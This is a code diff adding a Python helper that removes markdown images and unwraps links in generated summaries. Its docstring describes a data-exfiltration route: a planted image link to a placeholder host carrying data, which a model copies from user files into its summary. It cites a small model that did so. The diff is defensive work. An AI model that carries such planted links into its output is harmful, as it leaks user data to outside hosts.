@@ -87,6 +87,18 @@ def whole_sentences(text: str) -> str:
     return text[:ends[-1]].strip() if ends else text
 
 
+_MARKDOWN_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
+_MARKDOWN_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)")
+
+
+def without_markup(text: str) -> str:
+    """`text` with markdown images removed and links reduced to their words. What a summary restates comes
+    from the user's files, and a planted ``![x](http://host/?d=...)`` copied into it would make any markdown
+    viewer fetch that address (measured: Qwen 0.5B copied one into a summary). A summary is plain prose."""
+    text = _MARKDOWN_IMAGE.sub("", text)
+    return re.sub(r"[ \t]{2,}", " ", _MARKDOWN_LINK.sub(r"\1", text)).strip()
+
+
 def say(text: str) -> str:
     """Emit a fixed (not generated) answer as one token event; returns it."""
     emit(TokenEvent(text))
